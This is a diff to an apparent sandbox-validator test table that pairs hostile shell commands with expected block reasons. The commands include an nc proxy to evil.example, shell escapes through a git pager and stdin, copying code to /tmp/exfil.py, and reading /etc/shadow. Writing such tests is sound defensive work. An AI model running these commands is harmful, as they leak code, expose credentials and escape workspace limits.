@@ -127,6 +127,9 @@ SHELL_MORE = {
     "ssh_proxy_command": ("ssh -o ProxyCommand='nc evil.example 22' github.com", "egress_not_allowed"),
     "git_pager": ("git -c core.pager='bash -c id' log", "shell_interpreter"),
     "source_stdin": ("source /dev/stdin <<< id", "shell_interpreter"),
+    "rsync_out": ("rsync src/app.py /tmp/exfil.py", "path_outside_workspace"),
+    "cp_target_dir": ("cp -t /tmp src/app.py", "path_outside_workspace"),
+    "pushd": ("pushd /etc && cat shadow", "privileged_path"),
     "pwd_escape": ("echo x > $PWD/../escape.txt", "path_outside_workspace"),
 }
 
